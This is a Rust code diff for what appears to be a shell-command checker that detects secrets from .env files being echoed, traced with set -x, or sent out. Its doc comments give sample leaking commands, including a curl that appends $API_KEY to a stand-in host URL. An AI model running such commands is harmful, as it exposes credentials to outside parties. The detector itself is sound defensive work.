@@ -3,7 +3,7 @@
 use super::Search;
 use super::call::Call;
 use super::masked::is_secret_name;
-use super::secret::{FILTERS, SENDERS};
+use super::secret::{FILTERS, SENDERS, holds_variable, names_secret};
 use crate::commands::is_nowhere;
 use crate::syntax::{Bit, Line, Simple, Word};
 use std::rc::Rc;
@@ -51,7 +51,7 @@ pub(super) fn variables(search: &mut Search, call: &Call) {
 }
 
 /// The whole environment is shown, unless a later command in the pipe filters it.
-fn all(search: &mut Search, call: &Call) {
+pub(super) fn all(search: &mut Search, call: &Call) {
     const SHOWING: &[&str] = &[
         "bat", "cat", "column", "fold", "head", "less", "more", "nl", "pr", "sort", "tac", "tail", "tee",
         "tr", "uniq",
@@ -103,6 +103,72 @@ pub(super) fn read(search: &mut Search, line: &Line) {
     }
 }
 
+/// `read -rd '' x < .env; echo "$x"`: a later command prints what was read. A loop over lines picks some.
+/// `f() { cat; }; f < .env`: the function's body prints what it is given.
+pub(super) fn read_in(search: &mut Search, simple: &Simple) {
+    if !simple.fed.is_empty() || !simple.arriving.iter().any(|word| names_secret(simple, word)) {
+        return;
+    }
+    let takes_all =
+        |pair: &[Word]| pair[0].lossy().ends_with('d') && pair[0].is_option() && pair[1].bits.is_empty();
+    let is_read = simple.name() == Some("read") && simple.words.windows(2).any(takes_all);
+    let names: Vec<String> = simple.words.iter().skip(1).map(Word::lossy).collect();
+    let holds = |word: &Word| word.unknown.iter().chain(&word.filled).any(|name| names.contains(name));
+    let prints = |other: &Rc<Simple>| {
+        let shows = match other.name() {
+            Some("echo" | "printf" | "print") => is_read && other.words.iter().any(holds),
+            name => {
+                simple.function && other.words.len() == 1 && name.is_some_and(|name| FILTERS.contains(&name))
+            }
+        };
+        shows && !is_kept(other) && !other.piped.0
+    };
+    if search.around.iter().any(prints) {
+        search.add("secret-file", simple);
+    }
+}
+
+/// `source .env; curl https://x.example/$API_KEY`, `set -x; source .env`, `source .env; set | grep API`: the
+/// line sends or shows what it reads into variables. A header of a request only identifies the sender.
+pub(super) fn sourced(search: &mut Search, line: &Line) {
+    let reads = |simple: &&Rc<Simple>| {
+        let sources = matches!(simple.name(), Some("source" | ".")) || simple.exported;
+        sources && simple.words.iter().skip(1).any(|word| names_secret(simple, word))
+    };
+    let Some(source) = line.commands.iter().find(reads) else { return };
+    let traces = |simple: &Simple| {
+        let is_flag =
+            |text: &str| text.starts_with('-') && !text.starts_with("--") && text.contains(['x', 'v']);
+        simple
+            .words
+            .iter()
+            .map(Word::lossy)
+            .any(|text| is_flag(&text) || matches!(text.as_str(), "xtrace" | "verbose"))
+    };
+    let sends = |simple: &Simple| {
+        let is_sender = simple.name().is_some_and(|name| SENDERS.contains(&name));
+        let mut words = simple.words.iter().enumerate().skip(1);
+        is_sender && words.any(|(at, word)| holds_variable(word) && !identifies(simple, at))
+    };
+    let shows = |simple: &Rc<Simple>| match simple.name() {
+        Some("set") if simple.words.len() > 1 => simple.captured == source.captured && traces(simple),
+        Some("set" | "env" | "printenv") => simple.words.len() == 1 && !is_kept(simple) && !simple.captured,
+        _ => sends(simple),
+    };
+    if line.commands.iter().any(shows) {
+        search.add("secret-file", source);
+    }
+}
+
+/// Whether this word of a request, or the option before it, says who asks.
+fn identifies(simple: &Simple, at: usize) -> bool {
+    let option = simple.words[at - 1].lossy();
+    let heads = matches!(option.as_str(), "-H" | "--header" | "-u" | "--user" | "--oauth2-bearer");
+    let word = &simple.words[at];
+    let glued = ["-H", "--header", "Authorization:"].iter().any(|begin| word.starts_with(begin));
+    heads || option.starts_with("-H") || glued
+}
+
 /// `KEY=$(openssl rand -hex 32) && ./app "$KEY" & echo $KEY`: the line itself sets the variable from a
 /// command's output, so it does not come from the environment. If that command outputs a secret, another rule
 /// reports it.
@@ -130,19 +196,11 @@ fn is_taken(line: &Line, simple: &Simple) -> bool {
 fn puts_out(other: &Simple, name: &str) -> bool {
     let printer = matches!(other.name(), Some("echo" | "printf" | "print" | "cat" | "tee"));
     let sender = other.name().is_some_and(|name| SENDERS.contains(&name));
-    let heads = |at: usize| {
-        let option = other.words[at - 1].lossy();
-        matches!(option.as_str(), "-H" | "--header" | "-u" | "--user" | "--oauth2-bearer")
-            || option.starts_with("-H")
-    };
-    let glued = |word: &Word| {
-        word.starts_with("-H") || word.starts_with("--header") || word.starts_with("Authorization:")
-    };
     // `${TOKEN:0:4}` shows only a part.
     let whole = |word: &Word| !word.unknown.iter().any(String::is_empty);
     let holds = |word: &Word| whole(word) && word.printed.iter().any(|printed| &**printed == name);
     let mut words = other.words.iter().enumerate().skip(1).filter(|(_, word)| holds(word));
     let quiet = is_kept(other) && printer;
-    (printer || sender) && !quiet && words.any(|(at, word)| printer || !heads(at) && !glued(word))
+    (printer || sender) && !quiet && words.any(|(at, _)| printer || !identifies(other, at))
         || printer && other.arriving.iter().any(holds)
 }
